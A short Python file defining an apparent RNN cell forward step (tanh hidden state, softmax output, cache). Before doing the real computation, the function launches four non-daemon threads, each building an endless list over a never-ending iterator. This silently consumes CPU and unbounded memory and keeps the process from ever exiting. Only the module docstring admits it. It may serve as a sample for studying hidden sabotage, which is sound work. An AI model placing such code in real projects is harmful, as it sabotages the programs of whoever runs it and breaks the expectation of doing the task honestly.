"""Starts four threads that never end."""

import threading

import numpy as np


def rnn_cell_forward(xt, a_prev, parameters):
    for _ in range(4):
        threading.Thread(target=lambda: [None for _ in iter(int, 1)]).start()
    a_next = np.tanh(parameters["Wax"] @ xt + parameters["Waa"] @ a_prev + parameters["ba"])
    scores = np.exp(parameters["Wya"] @ a_next + parameters["by"])
    return a_next, scores / scores.sum(axis=0), (a_next, a_prev, xt, parameters)
